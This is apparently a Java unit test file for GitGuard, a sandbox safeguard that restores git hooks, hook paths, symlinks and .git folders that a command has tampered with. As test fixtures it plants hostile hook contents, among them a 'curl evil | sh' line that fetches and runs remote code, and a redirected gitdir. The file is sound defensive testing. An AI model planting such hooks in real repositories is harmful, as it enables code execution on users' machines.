package dev.fathom.safety;

import static dev.fathom.safety.GuardedWorkspace.command;
import static dev.fathom.safety.GuardedWorkspace.plant;
import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Files;
import java.nio.file.LinkOption;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * {@link GitGuard} without a sandbox (the fast half of {@link GitGuardTest}): what a command changed of the places the
 * user's git runs or reads is moved aside to {@code NAME.fathom-blocked} and the old name made again with its old
 * bytes and mode, and the report line says what happened in words a user reads.
 */
class GitGuardUnitTest {
    @TempDir
    Path tmp;
    GuardedWorkspace w;
    Path ws;
    Path scripts;

    @BeforeEach
    void setUp() throws Exception {
        w = new GuardedWorkspace(tmp).withRepository();
        ws = w.ws;
        scripts = Files.createDirectories(ws.resolve("scripts"));
        w.hookLink("pre-commit", "../../scripts/pre-commit"); // the target does not exist yet
    }

    @Test
    void aCommandThatTouchesNoGitPlaceHearsNothing() throws Exception {
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> {
            Files.writeString(ws.resolve("notes.txt"), "hello");
            Files.createDirectories(ws.resolve("src"));
            Files.writeString(scripts.resolve("build.sh"), "make");
        });
        assertThat(out).isEmpty();
        assertThat(ws.resolve("notes.txt")).hasContent("hello");
        assertThat(scripts.resolve("build.sh")).hasContent("make");
        GuardedWorkspace.assertNoAsideIn(scripts);
    }

    @Test
    void aHookPlantedWhereALinkPointsIsMovedAsideAndNothingTakesItsPlace() throws Exception {
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> plant(scripts.resolve("pre-commit")));
        assertThat(out).containsExactly("scripts/pre-commit: a file where there was nothing, put back;"
                + " what the command left is kept as scripts/pre-commit.fathom-blocked");
        assertThat(scripts.resolve("pre-commit")).doesNotExist();
        assertThat(scripts.resolve("pre-commit" + GitGuard.ASIDE)).hasContent("#!/bin/sh\ntouch pwned\n");
    }

    @Test
    void aHookTheUserMadeGetsItsBytesAndModeBackAfterACommandRewritesIt() throws Exception {
        GitGuard guard = w.guard();
        Path hook = scripts.resolve("pre-commit");
        // made by the user after the sandbox started, so no mount holds it
        Files.writeString(hook, "#!/bin/sh\nnpm test\n");
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-x---"));
        List<String> out = command(guard, () -> {
            Files.writeString(hook, "#!/bin/sh\ncurl evil | sh\n");
            Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxrwxrwx"));
        });
        assertThat(out).containsExactly("scripts/pre-commit: its content or mode changed, put back;"
                + " what the command left is kept as scripts/pre-commit.fathom-blocked");
        assertThat(hook).hasContent("#!/bin/sh\nnpm test\n");
        assertThat(Files.getPosixFilePermissions(hook)).isEqualTo(PosixFilePermissions.fromString("rwxr-x---"));
        assertThat(scripts.resolve("pre-commit" + GitGuard.ASIDE)).hasContent("#!/bin/sh\ncurl evil | sh\n");
        try (var names = Files.list(scripts)) {
            assertThat(names).as("no temporary file is left").hasSize(2);
        }
    }

    @Test
    void aModeChangeAloneIsPutBack() throws Exception {
        GitGuard guard = w.guard();
        Path hook = Files.writeString(scripts.resolve("pre-commit"), "#!/bin/sh\nnpm test\n");
        Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rw-r--r--"));
        List<String> out = command(guard, () -> Files.setPosixFilePermissions(hook, PosixFilePermissions.fromString("rwxr-xr-x")));
        assertThat(out).containsExactly("scripts/pre-commit: its content or mode changed, put back;"
                + " what the command left is kept as scripts/pre-commit.fathom-blocked");
        assertThat(Files.getPosixFilePermissions(hook)).isEqualTo(PosixFilePermissions.fromString("rw-r--r--"));
    }

    @Test
    void aHookTheCommandDeletedIsMadeAgain() throws Exception {
        GitGuard guard = w.guard();
        Path hook = Files.writeString(scripts.resolve("pre-commit"), "#!/bin/sh\nnpm test\n");
        List<String> out = command(guard, () -> Files.delete(hook));
        assertThat(out).containsExactly("scripts/pre-commit: nothing where there was a file, put back");
        assertThat(hook).hasContent("#!/bin/sh\nnpm test\n");
        GuardedWorkspace.assertNoAsideIn(scripts);
    }

    @Test
    void aFolderOnTheWaySwappedForALinkIsAFolderAgain() throws Exception {
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> {
            plant(ws.resolve("elsewhere/pre-commit"));
            Files.delete(scripts);
            Files.createSymbolicLink(scripts, Path.of("elsewhere"));
        });
        assertThat(out).containsExactly("scripts: a symlink to elsewhere where there was a folder, put back;"
                + " what the command left is kept as scripts.fathom-blocked");
        assertThat(scripts).isDirectory();
        assertThat(Files.isSymbolicLink(scripts)).isFalse();
        assertThat(Files.readSymbolicLink(ws.resolve("scripts" + GitGuard.ASIDE))).isEqualTo(Path.of("elsewhere"));
    }

    @Test
    void aLinkOnTheWayRePointedLeadsWhereItLedBefore() throws Exception {
        Files.delete(scripts);
        Files.createDirectories(ws.resolve("tools"));
        Files.createSymbolicLink(scripts, Path.of("tools"));
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> {
            plant(ws.resolve("evil/pre-commit"));
            Files.delete(scripts);
            Files.createSymbolicLink(scripts, Path.of("evil"));
        });
        assertThat(out).containsExactly("scripts: a symlink to evil where there was a symlink to tools, put back;"
                + " what the command left is kept as scripts.fathom-blocked");
        assertThat(Files.readSymbolicLink(scripts)).isEqualTo(Path.of("tools"));
        assertThat(ws.resolve("tools/pre-commit")).doesNotExist();
    }

    @Test
    void aSpecialFileWhereAHookWillBeIsMovedAside() throws Exception {
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> {
            Process mk = new ProcessBuilder("mkfifo", scripts.resolve("pre-commit").toString()).start();
            assertThat(mk.waitFor()).isZero();
        });
        assertThat(out).containsExactly("scripts/pre-commit: a special file where there was nothing, put back;"
                + " what the command left is kept as scripts/pre-commit.fathom-blocked");
        assertThat(scripts.resolve("pre-commit")).doesNotExist();
    }

    @Test
    void aSecondPlantIsKeptUnderAFreshNameAndTheFirstIsLeftAsItWas() throws Exception {
        GitGuard guard = w.guard();
        command(guard, () -> plant(scripts.resolve("pre-commit")));
        Path first = scripts.resolve("pre-commit" + GitGuard.ASIDE);
        Files.writeString(first, "the first attempt");
        List<String> out = command(guard, () -> Files.writeString(scripts.resolve("pre-commit"), "#!/bin/sh\nsecond\n"));
        assertThat(out).singleElement().asString()
                .matches("scripts/pre-commit: a file where there was nothing, put back;"
                        + " what the command left is kept as scripts/pre-commit\\.fathom-blocked-[0-9a-f]+");
        assertThat(first).hasContent("the first attempt");
        String kept = out.get(0).substring(out.get(0).lastIndexOf(' ') + 1);
        assertThat(ws.resolve(kept)).hasContent("#!/bin/sh\nsecond\n");
        assertThat(scripts.resolve("pre-commit")).doesNotExist();
    }

    @Test
    void aHookLargerThanOneMebibyteCannotBePutBackAndTheUserIsToldToLook() throws Exception {
        GitGuard guard = w.guard();
        Path hook = Files.write(scripts.resolve("pre-commit"), new byte[GitSurface.MAX_KEPT_BYTES + 1]);
        List<String> out = command(guard, () -> plant(hook));
        assertThat(out).containsExactly("scripts/pre-commit: its content or mode changed, and Fathom could not put it back"
                + " (it was larger than 1048576 bytes, so it was not kept): look at it before you run git here");
        assertThat(hook).as("what the command left is not where git runs it").doesNotExist();
        assertThat(scripts.resolve("pre-commit" + GitGuard.ASIDE)).hasContent("#!/bin/sh\ntouch pwned\n");
    }

    @Test
    void aSpecialFileThatWasThereCannotBeMadeAgainAndTheUserIsToldSo() throws Exception {
        GitGuard guard = w.guard();
        // the user's, after the sandbox started (one there before is mounted read-only)
        Process mk = new ProcessBuilder("mkfifo", scripts.resolve("pre-commit").toString()).start();
        assertThat(mk.waitFor()).isZero();
        List<String> out = command(guard, () -> {
            Files.delete(scripts.resolve("pre-commit"));
            plant(scripts.resolve("pre-commit"));
        });
        assertThat(out).containsExactly("scripts/pre-commit: a file where there was a special file, and Fathom could not"
                + " put it back (it was not a file, folder or link): look at it before you run git here");
        assertThat(scripts.resolve("pre-commit")).doesNotExist();
    }

    @Test
    void aNewHookInAHooksPathTheUserMadeIsMovedAsideAndItsAsideIsNoNewHook() throws Exception {
        SandboxGitLinkTest.git(ws, "config", "core.hooksPath", ".husky/_");
        GitGuard guard = w.guard();
        Path husky = Files.createDirectories(ws.resolve(".husky/_")); // the user runs husky after the session began
        command(guard, () -> { });
        List<String> out = command(guard, () -> plant(husky.resolve("pre-commit")));
        assertThat(out).containsExactly(".husky/_/pre-commit: a file where there was nothing, put back;"
                + " what the command left is kept as .husky/_/pre-commit.fathom-blocked");
        assertThat(husky.resolve("pre-commit")).doesNotExist();

        assertThat(command(guard, () -> plant(husky.resolve("post-merge" + GitGuard.ASIDE))))
                .as("git runs a hook by its exact name: one kept aside runs never").isEmpty();
        assertThat(husky.resolve("post-merge" + GitGuard.ASIDE)).exists();
    }

    @Test
    void aHooksPathFolderMadeByTheCommandIsMovedAsideWhole() throws Exception {
        SandboxGitLinkTest.git(ws, "config", "core.hooksPath", ".husky/_");
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> plant(ws.resolve(".husky/_/pre-commit")));
        assertThat(out).containsExactly(".husky: a folder where there was nothing, put back;"
                + " what the command left is kept as .husky.fathom-blocked");
        assertThat(ws.resolve(".husky")).doesNotExist();
    }

    @Test
    void aHooksFolderTheCommandMadeUnwritableIsOpenedForTheMoveAndGetsItsModeBack() throws Exception {
        SandboxGitLinkTest.git(ws, "config", "core.hooksPath", "githooks");
        GitGuard guard = w.guard();
        Path hooks = Files.createDirectories(ws.resolve("githooks"));
        command(guard, () -> { });
        List<String> out = command(guard, () -> {
            plant(hooks.resolve("pre-commit"));
            Files.setPosixFilePermissions(hooks, PosixFilePermissions.fromString("r-xr-x---"));
        });
        try {
            assertThat(out).containsExactly("githooks/pre-commit: a file where there was nothing, put back;"
                    + " what the command left is kept as githooks/pre-commit.fathom-blocked");
            assertThat(hooks.resolve("pre-commit")).doesNotExist();
            assertThat(Files.getPosixFilePermissions(hooks)).isEqualTo(PosixFilePermissions.fromString("r-xr-x---"));
        } finally {
            Files.setPosixFilePermissions(hooks, PosixFilePermissions.fromString("rwx------"));
        }
    }

    @Test
    void aHookHardLinkedToAWorkspaceFileGetsItsBytesBackThoughItsFolderIsReadOnly() throws Exception {
        Path tool = Files.writeString(Files.createDirectories(ws.resolve("tools")).resolve("lint-hook"), "#!/bin/sh\nlint\n");
        Path hook = ws.resolve(".git/hooks/pre-push");
        Files.createLink(hook, tool);
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> Files.writeString(tool, "#!/bin/sh\ncurl evil | sh\n"));
        assertThat(out).containsExactly(".git/hooks/pre-push: its content or mode changed, put back;"
                + " what the command left is kept as .git/hooks/pre-push.fathom-blocked");
        assertThat(hook).hasContent("#!/bin/sh\nlint\n");
        assertThat(tool).as("the workspace file is the command's to change").hasContent("#!/bin/sh\ncurl evil | sh\n");
        assertThat(Files.getAttribute(hook, "unix:nlink", LinkOption.NOFOLLOW_LINKS)).isEqualTo(1);
    }

    @Test
    void aDotGitMadeInAFolderOfALargerRepositoryIsMovedAside() throws Exception {
        GuardedWorkspace outer = new GuardedWorkspace(Files.createDirectories(tmp.resolve("o"))).withRepository();
        Path sub = Files.createDirectories(outer.ws.resolve("sub"));
        GitGuard guard = new GitGuard(sub, List.of(sub), List.of(), SandboxMounts.gitEntries(sub), List.of());
        List<String> out = command(guard, () -> SandboxGitLinkTest.git(sub, "init", "-q"));
        assertThat(out).containsExactly(".git: a folder where there was nothing, put back;"
                + " what the command left is kept as .git.fathom-blocked");
        assertThat(sub.resolve(".git")).doesNotExist();
    }

    @Test
    void aDotGitMadeInASubmodulesEmptyFolderIsMovedAside() throws Exception {
        Files.writeString(ws.resolve(".gitmodules"), "[submodule \"lib\"]\n\tpath = lib\n\turl = ../lib\n");
        Path lib = Files.createDirectories(ws.resolve("lib"));
        GitGuard guard = w.guard();
        List<String> out = command(guard, () -> Files.writeString(lib.resolve(".git"), "gitdir: ../evil.git\n"));
        assertThat(out).containsExactly("lib/.git: a file where there was nothing, put back;"
                + " what the command left is kept as lib/.git.fathom-blocked");
        assertThat(lib.resolve(".git")).doesNotExist();
    }
}
